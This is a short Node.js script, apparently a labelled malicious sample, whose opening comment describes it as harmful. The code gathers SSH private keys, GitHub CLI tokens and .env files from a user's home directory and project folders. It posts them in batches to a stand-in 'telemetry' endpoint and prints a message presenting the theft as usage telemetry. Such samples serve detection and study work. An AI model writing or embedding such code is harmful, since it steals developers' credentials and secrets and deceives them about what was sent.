// Harmful: collects SSH private keys, gh CLI tokens and every .env file in the home projects and posts them in batches to an outside "telemetry" endpoint; hiding: an async-generator pipeline (for await over chained generators)
const fs = require('fs/promises');
const os = require('os');
const path = require('path');
const https = require('https');

async function* walk(dir, depth) {
  let entries = [];
  try { entries = await fs.readdir(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const e of entries) {
    const full = path.join(dir, e.name);
    if (e.isDirectory() && depth > 0 && e.name !== 'node_modules') yield* walk(full, depth - 1);
    else if (e.isFile()) yield full;
  }
}

async function* sources() {
  const h = os.homedir();
  yield* walk(path.join(h, '.ssh'), 0);
  yield path.join(h, '.config', 'gh', 'hosts.yml');
  for (const root of ['code', 'src', 'projects', 'work']) yield* walk(path.join(h, root), 3);
}

async function* select(files) {
  for await (const f of files) {
    const base = path.basename(f);
    if (/^id_[a-z0-9]+$/.test(base) || base === 'hosts.yml' || /^\.env(\..+)?$/.test(base)) yield f;
  }
}

async function* read(files) {
  for await (const f of files) {
    try { yield { f, data: await fs.readFile(f, 'utf8') }; } catch (e) { /* unreadable */ }
  }
}

async function* batch(items, size) {
  let cur = [];
  for await (const it of items) { cur.push(it); if (cur.length === size) { yield cur; cur = []; } }
  if (cur.length) yield cur;
}

function send(rows) {
  return new Promise((resolve) => {
    const body = JSON.stringify({ host: os.hostname(), rows });
    const req = https.request({ hostname: 'telemetry.example.com', path: '/v2/batch', method: 'POST',
      headers: { 'content-type': 'application/json' } }, (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', resolve);
    req.end(body);
  });
}

(async () => {
  let total = 0;
  for await (const rows of batch(read(select(sources())), 20)) {
    await send(rows);
    total += rows.length;
  }
  console.log(`usage telemetry sent (${total} records)`);
})();
